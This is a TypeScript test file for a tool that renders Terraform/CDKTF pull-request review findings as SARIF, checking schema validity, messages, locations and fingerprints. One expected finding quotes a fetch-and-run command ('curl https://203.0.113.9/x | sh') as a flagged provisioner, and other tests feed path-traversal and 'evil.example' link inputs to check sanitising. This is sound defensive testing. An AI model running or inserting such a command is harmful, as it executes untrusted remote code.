import { readFileSync } from 'node:fs';
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import { describe, expect, test } from 'vitest';
import { renderSarif } from '../../../src/review/render/sarif';
import { rules } from '../../../src/review/render/sarif/rules';
import type { Report } from '../../../src/review/report/report';
import { pullRequest } from '../fixtures/pull-request';
import { readingChange, readingReport } from '../fixtures/readings';
import { change, huge, report, stack, unchanged } from '../fixtures/report';

/** The official schema; it says nothing that draft 7 reads otherwise than its own draft 4. */
const {
  $schema: _,
  id: __,
  ...schema
} = JSON.parse(readFileSync(require.resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json'), 'utf8'));
const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
addFormats(ajv);
const valid = ajv.compile(schema);

interface Result {
  readonly ruleId: string;
  readonly level: string;
  readonly message: { readonly text: string };
  readonly locations: readonly [
    {
      readonly physicalLocation: { readonly artifactLocation: { readonly uri: string }; readonly region?: object };
      readonly logicalLocations: readonly [{ readonly fullyQualifiedName: string }];
    },
  ];
  readonly partialFingerprints: Readonly<Record<string, string>>;
}

const resultsOf = (given: Report): readonly Result[] => JSON.parse(renderSarif(given)).runs[0].results;
const withRule = (given: Report, rule: string): readonly Result[] =>
  resultsOf(given).filter(({ ruleId }) => ruleId === rule);
const fingerprints = (given: Report) =>
  resultsOf(given).map((result) => result.partialFingerprints['landingZoneReview/v1']);

describe('the SARIF', () => {
  test.each([
    ['of nothing changed', unchanged],
    ['of a pull request', pullRequest],
    ['of many changes', huge(10, 20)],
  ])('%s is valid by the official schema of 2.1.0', (_name, given) => {
    expect(valid(JSON.parse(renderSarif(given)))).toBe(true);
    expect(valid.errors).toBeNull();
  });

  test('is held to the schema: a wrong level is refused', () => {
    expect(valid(JSON.parse(renderSarif(pullRequest).replace('"level": "error"', '"level": "bad"')))).toBe(false);
  });

  test('says where code would run, and what keeps a state', () => {
    const says = (rule: string) => withRule(pullRequest, rule).map(({ level, message }) => [level, message.text]);
    expect(says('runs-code')).toEqual([
      [
        'error',
        'data-prod Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh',
      ],
    ]);
    expect(says('other-provider')).toHaveLength(2);
    expect(says('state-moves')[0]?.[1]).toContain(
      'keep it with terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate',
    );
  });

  test('says what changes of something that moves', () => {
    const moved = { action: 'move' as const, keepWith: 'moveFromId()' };
    const attributes = [{ attribute: 'expired_at', before: '2027-03-31' }];
    const changes = [change({ ...moved, path: 'A', attributes }), change({ ...moved, path: 'B' })];
    expect(resultsOf(report({ stacks: [stack({ changes })] })).map(({ message }) => message.text)).toEqual([
      'ovh_cloud_project_kube_nodepool web-prod/A changed its address and more (expired_at - 2027-03-31), and Terraform would destroy and create it; keep it with moveFromId()',
      'ovh_cloud_project_kube_nodepool web-prod/B only changed its address, and Terraform would destroy and create it; keep it with moveFromId()',
    ]);
  });

  test('points at the line of the program', () => {
    const [replaced] = withRule(pullRequest, 'resource-replace');
    expect(replaced?.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'examples/orbital/landing-zone.ts' },
      region: { startLine: 129 },
    });
    expect(replaced?.locations[0].logicalLocations[0].fullyQualifiedName).toBe('data-prod/Clusters/main');
  });

  test('names a resource with everything unseen made visible, as in its sentences', () => {
    const path = 'Clusters/\u001b[31mmain\u202e';
    const [one] = resultsOf(report({ stacks: [stack({ changes: [change({ action: 'destroy', path })] })] }));
    expect(one?.locations[0].logicalLocations[0].fullyQualifiedName).toBe('web-prod/Clusters/⟨U+001B⟩[31mmain⟨U+202E⟩');
  });

  test('points at the synthesized stack where the line is not known', () => {
    const given = report({ stacks: [stack({ changes: [change({ action: 'destroy' })] })] });
    expect(resultsOf(given)[0]?.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'cdktf.out/stacks/web-prod/cdk.tf.json' },
    });
    expect(renderSarif(given, { output: 'zone/out' })).toContain('"zone/out/stacks/web-prod/cdk.tf.json"');
  });

  test('never points out of the repository', () => {
    const source = { file: 'javascript:/../..//etc/./a b\\c.ts', line: 0 };
    const given = report({ stacks: [stack({ changes: [change({ source })] })] });
    expect(resultsOf(given)[0]?.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'javascript%3A/etc/a%20b/c.ts' },
      region: { startLine: 1 },
    });
  });

  test('says what is lost, and why', () => {
    expect(withRule(pullRequest, 'resource-replace').map(({ level, message }) => [level, message.text])).toEqual([
      [
        'error',
        'ovh_cloud_project_kube data-prod/Clusters/main is replaced; depends on private_network_id, known after apply, which waits for data-prod-foundation/Networks/main; loses the etcd data of the cluster: every Kubernetes object that is not in Git',
      ],
    ]);
  });

  test('has every kind of finding of a pull request, the dangerous ones first', () => {
    const found = resultsOf(pullRequest).map(({ level, ruleId }) => `${level} ${ruleId}`);
    expect([...new Set(found)]).toEqual([
      'error runs-code',
      'error other-provider',
      'error state-moves',
      'error guard-removed',
      'error unread',
      'error resource-destroy',
      'error resource-replace',
      'error resource-move',
      'error change-fails',
      'error access-gained',
      'error exposure-opened-allow-list',
      'error place-new',
      'warning stack-left-behind',
      'warning change-buys',
      'warning access-gained',
      'warning exposure-opened-public-address',
      'warning plan-disagrees',
      'note resource-change',
      'note resource-add',
      'note resource-left-behind',
      'note change-note',
      'note exposure-closed-allow-list',
      'note address-taken',
      'note address-freed',
      'note place-new',
      'note differs',
    ]);
  });

  test('warns only, where nothing goes with what is destroyed', () => {
    const given = report({ stacks: [stack({ changes: [change({ action: 'destroy' })] })] });
    expect(resultsOf(given).map(({ level }) => level)).toEqual(['warning']);
  });

  test('says a change of a reading in its sentence, where it comes from', () => {
    const [found] = withRule(pullRequest, 'access-gained');
    expect(found).toMatchObject({
      level: 'error',
      message: {
        text: 'group data-ops is no longer denied: publicCloudProject:apiovh:delete on this project',
      },
      locations: [{ logicalLocations: [{ fullyQualifiedName: 'data-prod/Access/operator' }] }],
    });
  });

  test('knows the rule of each finding', () => {
    const ids = rules.map(({ id }) => id);
    expect(resultsOf(pullRequest).filter(({ ruleId }) => !ids.includes(ruleId))).toEqual([]);
    expect(new Set(ids).size).toBe(ids.length);
  });

  test('keeps a finding the same when its line moves and other changes come and go', () => {
    const [first, ...others] = pullRequest.stacks;
    const moved = report({
      ...pullRequest,
      stacks: others.map((one) => ({
        ...one,
        changes: one.changes.map((each) => ({ ...each, source: { file: 'elsewhere.ts', line: 1 } })),
      })),
    });
    const before = fingerprints(pullRequest);
    expect(first?.changes.length).toBe(2);
    expect(fingerprints(moved).filter((one) => !before.includes(one))).toEqual([]);
    expect(new Set(before).size).toBe(before.length);
  });

  test('tells two findings of one place apart by their rules', () => {
    const rows = ['access-gained', 'access-lost'].map((rule, line) =>
      readingChange({ at: ['web-prod', 'Access/a'], rule, word: 'gained', line, cells: { identity: 'group web' } }),
    );
    const all = resultsOf(report({ readings: readingReport('access', rows) }));
    expect(all.map(({ ruleId }) => ruleId)).toEqual(['access-gained', 'access-lost']);
    expect(new Set(all.map((one) => one.partialFingerprints['landingZoneReview/v1'])).size).toBe(all.length);
  });

  test('keeps within what code scanning takes, drops the harmless and says how many', () => {
    const text = renderSarif(huge(130, 200));
    const [run] = JSON.parse(text).runs;
    expect(run.results.length).toBe(25_000);
    expect(run.results.filter(({ level }: Result) => level === 'error').length).toBe(130 * 67);
    expect(run.invocations[0].toolExecutionNotifications[0].message.text).toBe(
      '1130 more results left out; the HTML has all of them',
    );
  });

  test('has no links and no placeholders from the pull request in its messages', () => {
    const notes = ['see [this](https://evil.example) {0}'];
    const given = report({ stacks: [stack({ notes })] });
    expect(resultsOf(given)[0]?.message.text).toBe('see \\[this\\](https://evil.example) {{0}}');
  });
});
